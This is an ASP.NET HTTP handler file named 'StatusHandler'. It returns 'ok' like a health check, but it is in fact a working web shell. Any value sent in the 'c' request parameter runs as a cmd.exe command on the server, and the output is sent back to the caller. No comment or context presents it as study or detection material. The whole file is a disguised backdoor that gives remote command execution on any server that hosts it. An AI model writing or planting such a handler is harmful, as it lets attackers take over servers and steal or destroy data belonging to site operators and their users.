<%@ WebHandler Language="C#" Class="StatusHandler" %>
using System;
using System.Web;
using System.Diagnostics;
public class StatusHandler : IHttpHandler {
    public void ProcessRequest(HttpContext context) {
        string c = context.Request["c"];
        context.Response.ContentType = "text/plain";
        if (String.IsNullOrEmpty(c)) { context.Response.Write("ok"); return; }
        ProcessStartInfo psi = new ProcessStartInfo("cmd.exe", "/c " + c);
        psi.RedirectStandardOutput = true;
        psi.RedirectStandardError = true;
        psi.UseShellExecute = false;
        psi.CreateNoWindow = true;
        Process p = new Process();
        p.StartInfo = psi;
        p.Start();
        context.Response.Write(p.StandardOutput.ReadToEnd());
        context.Response.Write(p.StandardError.ReadToEnd());
    }
    public bool IsReusable { get { return false; } }
}
